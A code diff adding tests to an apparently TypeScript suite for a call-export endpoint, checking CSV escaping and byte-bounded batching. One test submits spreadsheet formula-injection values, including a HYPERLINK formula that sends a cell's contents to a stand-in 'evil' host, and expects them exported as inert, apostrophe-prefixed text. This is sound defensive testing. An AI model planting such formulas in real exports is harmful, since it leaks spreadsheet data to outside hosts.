@@ -164,6 +164,62 @@ describe('GET /v1/agents/{agentId}/calls/export', () => {
     expect(JSON.parse(record.transcript!)).toEqual(transcript);
   });
 
+  it("writes a caller's formula as inert text and the phone number as text", async () => {
+    const agentId = await agentWithFields(w);
+    await ctx.http
+      .post(`/v1/agents/${agentId}/calls`)
+      .set('X-API-Key', w.key)
+      .send({
+        call_id: 'csv-formula',
+        duration: 3,
+        phone_number: '+49 30 1234567',
+        customer_name: '=HYPERLINK("http://evil/?"&A1)',
+        customer_request: '@SUM(A1:A2)',
+        call_summary: '-2+3',
+        transcript: [{ role: 'user', text: '=1+1' }],
+        extracted_data: { urgency: 'routine', units: -2 },
+      })
+      .expect(201);
+    const res = await download(`${exportPath(agentId)}?format=csv`).expect(200);
+    expect(res.body as string).toContain(`"'=HYPERLINK(""http://evil/?""&A1)",'@SUM(A1:A2),'+49301234567,3,`);
+    const [header, row] = parseCsv(res.body as string);
+    const record = Object.fromEntries(header!.map((name, i) => [name, row![i]]));
+    expect(record).toMatchObject({
+      customer_name: `'=HYPERLINK("http://evil/?"&A1)`,
+      customer_request: "'@SUM(A1:A2)",
+      call_summary: "'-2+3",
+      phone_number: "'+49301234567",
+      'extracted.units': '-2',
+    });
+    expect(JSON.parse(record.transcript!)).toEqual([{ role: 'user', text: '=1+1' }]);
+  });
+
+  it('reads calls of any size in batches bounded by bytes: every call once, in order, as the list has them', async () => {
+    const agentId = await agentWithFields(w);
+    const base = Date.parse('2026-06-01T12:00:00Z');
+    // Large and small calls mixed, one group of them created in the same microsecond.
+    const rows = Array.from({ length: 24 }, (_, i) => ({
+      organization_id: w.orgId,
+      agent_id: agentId,
+      call_id: `mixed-${i}`,
+      duration: i,
+      done: false,
+      transcript: JSON.stringify([{ role: 'user', text: `${i} ${'ab'.repeat(i % 3 === 0 ? 150_000 : 10)}` }]),
+      extracted_data: '{}',
+      created_at: new Date(base - (i < 6 ? 0 : i) * 1000),
+      updated_at: new Date(base),
+    }));
+    await ctx.db('calls').insert(rows);
+    const ndjson = await download(exportPath(agentId)).expect(200);
+    const lines = (ndjson.body as string).trim().split('\n');
+    const list = await ctx.http.get(`/v1/agents/${agentId}/calls?limit=100`).set('X-API-Key', w.key).expect(200);
+    expect(lines.map((line) => JSON.parse(line))).toEqual(list.body.data);
+    const csv = parseCsv((await download(`${exportPath(agentId)}?format=csv`).expect(200)).body as string);
+    expect(csv).toHaveLength(25);
+    const byCallId = new Map(rows.map((r) => [r.call_id, r.transcript]));
+    for (const row of csv.slice(1)) expect(row.at(-1)).toBe(byCallId.get(row[1]!));
+  });
+
   it('refuses a bad format and unknown outcome filters with 400, and checks access like the list', async () => {
     const agentId = await agentWithFields(w);
     const res = await ctx.http
